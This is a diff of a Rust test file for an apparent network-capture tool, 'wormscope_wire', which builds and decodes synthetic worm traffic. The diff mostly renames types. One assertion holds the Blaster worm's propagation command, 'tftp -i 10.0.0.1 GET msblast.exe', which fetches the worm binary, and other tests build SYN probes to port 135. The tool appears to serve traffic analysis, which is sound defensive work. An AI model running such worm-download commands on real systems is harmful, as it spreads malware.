@@ -5,13 +5,13 @@ use std::io::Cursor;
 use std::net::Ipv4Addr;
 
 use proptest::prelude::*;
-use wormscope_wire::build::{self, Host, IpOpts, TcpFlow, worm};
+use wormscope_wire::build::{self, IpOpts, Station, TcpFlow, worm};
 use wormscope_wire::capture::{CaptureErrorKind, CaptureFormat, CaptureReader, LinkType};
-use wormscope_wire::decode::{Decoded, Transport, decode};
+use wormscope_wire::decode::{Decoded, TransportLayer, decode};
 use wormscope_wire::write::{OutputFormat, PcapNgWriter, PcapWriter, write_capture_file};
 
-fn h(s: &str) -> Host {
-    Host::new(s.parse().unwrap())
+fn h(s: &str) -> Station {
+    Station::new(s.parse().unwrap())
 }
 
 fn sample_frames() -> Vec<Vec<u8>> {
@@ -157,7 +157,7 @@ fn ipv6_non_ip_and_fragments() {
         panic!()
     };
     assert!(p.fragmented);
-    assert!(matches!(p.transport, Transport::Tcp(t) if t.dst_port == 135));
+    assert!(matches!(p.transport, TransportLayer::Tcp(t) if t.dst_port == 135));
     let mut later = syn;
     later[14 + 7] = 3; // offset 24 bytes
     fix_ip_checksum(&mut later);
@@ -165,7 +165,7 @@ fn ipv6_non_ip_and_fragments() {
         panic!()
     };
     assert!(p.fragmented);
-    assert_eq!(p.transport, Transport::Fragment);
+    assert_eq!(p.transport, TransportLayer::Fragment);
 }
 
 fn fix_ip_checksum(f: &mut [u8]) {
@@ -298,7 +298,7 @@ fn worm_builders_decode() {
         panic!()
     };
     assert_eq!(p.dst, Ipv4Addr::new(10, 0, 0, 9));
-    assert!(matches!(p.transport, Transport::Tcp(t) if t.is_syn_only() && t.dst_port == 135));
+    assert!(matches!(p.transport, TransportLayer::Tcp(t) if t.is_syn_only() && t.dst_port == 135));
     assert_eq!(
         worm::tftp_command(a.ip, "msblast.exe"),
         "tftp -i 10.0.0.1 GET msblast.exe\n"
